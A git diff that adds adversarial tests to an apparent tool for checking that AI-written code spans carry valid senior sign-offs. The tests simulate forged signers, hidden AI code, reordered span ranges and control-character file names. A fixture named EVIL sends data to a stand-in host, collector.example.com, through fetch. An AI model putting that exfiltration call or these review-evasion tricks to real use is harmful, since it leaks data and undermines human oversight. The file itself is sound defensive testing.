@@ -13,6 +13,8 @@ import { GateRepo, JUNIOR, LEAD, SENIOR } from '../helpers/gateRepo';
 const AI =
   'export function retryForever(task: () => Promise<void>): Promise<void> {\n  return task().catch(() => retryForever(task));\n}\n';
 const HUMAN = 'export const limit = 3;\n';
+const EVIL =
+  'export function report(data: string): void {\n  void fetch("https://collector.example.com/?d=" + encodeURIComponent(data));\n}\n';
 
 describe('verify holds when the author of the change is the adversary', function () {
   this.timeout(60_000);
@@ -176,6 +178,38 @@ describe('verify holds when the author of the change is the adversary', function
     await expectFail(/does not count: it is not signed/);
   });
 
+  it('4. without --base, a branch pushed with -u is checked against main, not against its own remote copy', async () => {
+    repo.seedMain();
+    const remote = fs.mkdtempSync(path.join(os.tmpdir(), 'aiprov-remote-'));
+    try {
+      repo.git('init', '-q', '--bare', remote);
+      repo.git('remote', 'add', 'origin', remote);
+      repo.git('push', '-q', 'origin', 'main');
+      feature();
+      repo.git('push', '-q', '-u', 'origin', 'feature');
+      const r = await runCliCaptured(['verify'], repo.root);
+      assert.equal(r.code, 1, r.out);
+      assert.match(r.out, /AI span at src\/retry\.ts:2-4 .* lacks a valid senior sign-off/);
+      repo.git('checkout', '-q', 'main');
+      const onMain = await runCliCaptured(['verify'], repo.root);
+      assert.match(onMain.out, /HEAD is already part of main .*there is no change to check/);
+    } finally {
+      fs.rmSync(remote, { recursive: true, force: true });
+    }
+  });
+
+  it("4. a git replace ref cannot swap the target's allowed_signers", async () => {
+    repo.seedMain();
+    feature();
+    // A replace ref pushed next to the branch (a mirror fetch in CI brings it along).
+    const listed = repo.git('rev-parse', 'main:.aiprov/allowed_signers').trim();
+    const mine = path.join(repo.keys, 'allowed_signers');
+    fs.writeFileSync(mine, repo.signerLine(SENIOR, 'mallory'));
+    repo.git('replace', listed, repo.git('hash-object', '-w', mine).trim());
+    await repo.signOff('src/retry.ts', { email: SENIOR }, 'mallory');
+    await expectFail(/approved by senior@example\.com does not count: ssh-keygen/);
+  });
+
   describe('5. span attribution is bound and cannot be edited away', () => {
     it('deleting the author of a span (to dodge the self-sign-off rule) is caught', async () => {
       repo.seedMain();
@@ -229,6 +263,22 @@ describe('verify holds when the author of the change is the adversary', function
         );
       });
     }
+    it("moving a senior's later changes-requested record into another file's sidecar does not revive the approval", async () => {
+      repo.seedMain();
+      feature();
+      repo.writeAi('src/other.ts', EVIL, { before: HUMAN });
+      repo.commitAll('other ai');
+      await repo.signOff('src/other.ts', { email: SENIOR }, 'senior');
+      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', 'approved', new Date('2026-11-21T10:00:00Z'));
+      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior', 'changes-requested', new Date('2026-11-22T10:00:00Z'));
+      const sidecar = repo.sidecar('src/retry.ts');
+      repo.writeSidecar('src/retry.ts', { ...sidecar, signoffs: sidecar.signoffs.filter((s) => s.decision === 'approved') });
+      repo.addRecords('src/other.ts', ...sidecar.signoffs.filter((s) => s.decision !== 'approved'));
+      repo.commitAll('park the objection elsewhere');
+      await expectFail(
+        /src\/retry\.ts: the changes-requested record by senior@example\.com .* was removed while the text it covers is still there/,
+      );
+    });
   });
 
   describe('7. allowed_signers means what ssh-keygen says it means', () => {
@@ -239,6 +289,17 @@ describe('verify holds when the author of the change is the adversary', function
       await expectFail(/approved by junior@example\.com does not count: ssh-keygen/);
       await repo.signOff('src/retry.ts', { email: 'other@example.com' }, 'mallory');
       assert.equal((await repo.verify()).code, 0, 'the same key counts for a principal the line does not exclude');
+    });
+
+    it('a senior cannot approve AI code they accepted by signing as another principal of the same key', async () => {
+      repo.seedMain(undefined, repo.signerLine(`${SENIOR},senior@home.example`, 'senior') + repo.signerLine(LEAD, 'lead'));
+      feature('src/retry.ts', { attribution: { author: SENIOR } });
+      await repo.signOff('src/retry.ts', { email: 'senior@home.example' }, 'senior');
+      await expectFail(
+        /sign-off by senior@home\.example is signed with a key allowed_signers also lists for senior@example\.com, who accepted this span \(self-sign-off is forbidden\)/,
+      );
+      await repo.signOff('src/retry.ts', { email: LEAD }, 'lead');
+      assert.equal((await repo.verify()).code, 0, 'another senior may approve it');
     });
 
     it('minSeniors: 2 is not met by one key listed under two emails', async () => {
@@ -330,6 +391,35 @@ describe('verify holds when the author of the change is the adversary', function
       await expectFail(/appears at src\/base\.ts:2-4, which is recorded as human/);
     });
 
+    it('AI code recorded at the base by a sidecar whose described content the clone lacks cannot be dropped', async () => {
+      repo.seedMain();
+      repo.git('checkout', '-qb', 'feature');
+      // The sidecar describes a version of the file that was never committed (a squash merge done
+      // by the server, a commit without the hook): git has no such blob.
+      const content = '// licence header\n' + repo.writeAi('src/retry.ts', AI, { before: HUMAN });
+      repo.write('src/retry.ts', content);
+      repo.commitAll('ai');
+      assert.throws(() => repo.git('cat-file', '-e', repo.sidecar('src/retry.ts').blob), 'git has no such blob');
+      repo.git('checkout', '-q', 'main');
+      repo.git('merge', '-q', '--ff-only', 'feature');
+      repo.git('checkout', '-qb', 'later');
+      repo.write('src/retry.ts', content.replace('retryForever(task))', 'retryForever(task)).finally(report)'));
+      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', repo.read('src/retry.ts'), []));
+      repo.commitAll('edit and hide');
+      await expectFail(/recorded at the base [0-9a-f]{8} is still at src\/retry\.ts:3-5 but no longer recorded as AI/);
+    });
+
+    it('AI code cut into a source file kept under .aiprov/ is caught', async () => {
+      repo.seedMain();
+      feature();
+      repo.write('src/retry.ts', HUMAN + "export { retryForever } from '../.aiprov/lib';\n");
+      repo.git('rm', '-q', '--cached', sidecarPathFor('src/retry.ts'));
+      fs.rmSync(path.join(repo.root, sidecarPathFor('src/retry.ts')));
+      repo.write('.aiprov/lib.ts', AI);
+      repo.commitAll('out of sight');
+      await expectFail(/AI-written code from src\/retry\.ts appears at \.aiprov\/lib\.ts:1-3, which is recorded as human/);
+    });
+
     it('a deleted sidecar is not hidden by a sidecar the same change adds (git rename pairing)', async () => {
       repo.seedMain();
       feature();
@@ -387,8 +477,18 @@ describe('verify holds when the author of the change is the adversary', function
     it('a file named with a newline is checked like any other', async () => {
       repo.seedMain();
       feature('src/evil\n.js');
-      const r = await expectFail(/AI span at src\/evil\n\.js:2-4 .* lacks a valid senior sign-off/);
+      const r = await expectFail(/AI span at src\/evil\\n\.js:2-4 .* lacks a valid senior sign-off/);
       assert.match(r.out, /1 file\(s\)/);
+    });
+
+    it('a file name with control characters or commas cannot forge report lines or annotation properties', async () => {
+      repo.seedMain();
+      feature('src/a,line=9\x1b[2K\n✓ fine.ts');
+      const text = await expectFail(/^✗ AI span at src\/a,line=9\\u\{1b\}\[2K\\n✓ fine\.ts:2-4 .* lacks a valid senior sign-off$/m);
+      assert.doesNotMatch(text.out, /\x1b|^✓/m);
+      const github = await repo.verify('--format', 'github');
+      assert.match(github.out, /^::error file=src\/a%2Cline=9\\u\{1b\}\[2K\\n✓ fine\.ts,line=2,endLine=4,title=aiprov unreviewed::/m);
+      assert.doesNotMatch(github.out, /\x1b/);
     });
 
     it('a revision that looks like an option reaches git as data', async () => {
@@ -424,6 +524,35 @@ describe('verify holds when the author of the change is the adversary', function
       } finally {
         fs.rmSync(outside, { recursive: true, force: true });
       }
+    });
+  });
+
+  describe('11. a sign-off covers exactly the text it was given', () => {
+    it("a span whose ranges are out of order cannot stretch a senior's approval over other AI code", async () => {
+      repo.seedMain();
+      feature();
+      await repo.signOff('src/retry.ts', { email: SENIOR }, 'senior');
+      // New AI code above the approved span, recorded by the hooks in a span of its own.
+      const approved = repo.sidecar('src/retry.ts');
+      const content = EVIL + repo.read('src/retry.ts');
+      const tracker = new SpanTracker();
+      const attribution = spansOf(approved)[0].attribution;
+      tracker.markAi({ start: 0, end: EVIL.length }, attribution, 'evil');
+      tracker.markAi({ start: EVIL.length + HUMAN.length, end: content.length }, attribution, 'span-retry.ts');
+      repo.write('src/retry.ts', content);
+      repo.writeSidecar('src/retry.ts', buildSidecar('src/retry.ts', content, tracker.spans(), approved.signoffs));
+      repo.commitAll('more ai');
+      // The approved span's first and last ranges keep its extent; the new code rides in between.
+      const sidecar = repo.sidecar('src/retry.ts');
+      const evil = sidecar.spans.find((s) => s.id === 'evil')!;
+      const span = sidecar.spans.find((s) => s.id === 'span-retry.ts')!;
+      const [r] = span.ranges;
+      repo.writeSidecar('src/retry.ts', {
+        ...sidecar,
+        spans: [{ ...span, ranges: [{ ...r, end: r.start + 1 }, ...evil.ranges, { ...r, start: r.start + 1 }] }],
+      });
+      repo.commitAll('fold it in');
+      await expectFail(/spans\[0\]\.ranges\[1\]: starts at 0, before spans\[0\]\.ranges\[0\] ends .*a span's ranges must be in file order/);
     });
   });
 
